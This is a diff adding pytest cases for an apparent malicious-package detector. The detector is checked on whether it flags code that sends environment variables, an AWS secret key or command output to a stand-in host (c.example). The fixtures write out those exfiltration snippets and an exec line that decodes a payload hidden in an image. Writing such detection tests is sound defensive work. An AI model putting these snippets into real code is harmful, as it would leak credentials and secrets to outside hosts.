@@ -204,3 +204,49 @@ def test_a_picture_beside_setup_holds_no_code(name: str, is_told: bool) -> None:
     text = f"exec(bytes(byte & 1 for byte in open('res/{name}', 'rb').read()))\n"
     facts = analyse.module("setup.py", text.encode()).facts
     assert ("runs-decoded" in {fact.behaviour for fact, _ in facts}) is is_told
+
+
+@pytest.mark.parametrize(
+    "made",
+    [
+        "t = dict(os.environ)\nt['A'] = '1'\n",
+        "t = {'A': '1', **os.environ}\n",
+        "t = dict({'A': '1', 'B': '2'})\nt.update(os.environ)\n",
+        "t = dict(os.environ, A='1')\n",
+    ],
+)
+def test_what_one_known_entry_stands_beside_is_not_forgotten(made: str) -> None:
+    text = f"import os, sys, requests\n{made}requests.post('https://c.example/x', data=t[sys.argv[1]])\n"
+    assert "sends environment" in found(followed(text))
+    assert "sends environment" not in found(followed(text.replace("os.environ", "os.terminal_size")))
+
+
+@pytest.mark.parametrize(
+    "kept",
+    [
+        "t = {k: v for k, v in [('a', os.environ['AWS_SECRET_ACCESS_KEY']), ('b', 'x'), ('b', 'y')]}\nsent = t['a']\n",
+        "t = {'A': '1'}\nt.update({os.environ['AWS_SECRET_ACCESS_KEY']: '2'})\nsent = t.popitem()[0]\n",
+        "t = ['a', 'b']\nheapq.heapreplace(t, os.environ['AWS_SECRET_ACCESS_KEY'])\nsent = heapq.heappop(t)\n",
+    ],
+)
+def test_a_secret_is_found_wherever_a_table_keeps_it(kept: str) -> None:
+    text = f"import heapq, os, requests\n{kept}requests.post('https://c.example/x', data=sent)\n"
+    assert "sends foreign-secret" in found(followed(text))
+    assert "sends foreign-secret" not in found(followed(text.replace("AWS_SECRET_ACCESS_KEY", "LANG")))
+
+
+@pytest.mark.parametrize(
+    ("before", "given"),
+    [
+        ("os.environ['PATH'] = '/tmp/x'", ""),
+        ("os.chdir('/tmp/x')", ""),
+        ("", ", env={'PATH': '/tmp/x'}"),
+        ("", ", cwd='/tmp/x'"),
+        ("", ", executable='/tmp/x/git'"),
+    ],
+)
+def test_a_compiler_that_may_be_another_program_is_no_compiler(before: str, given: str) -> None:
+    text = "import os, subprocess, requests\n{}\nasked = subprocess.check_output(['gcc', '--version']{})\n"
+    text += "requests.get('https://c.example/' + asked.decode())\n"
+    assert "sends command-output" in found(followed(text.format(before, given)))
+    assert "sends command-output" not in found(followed(text.format("", "")))
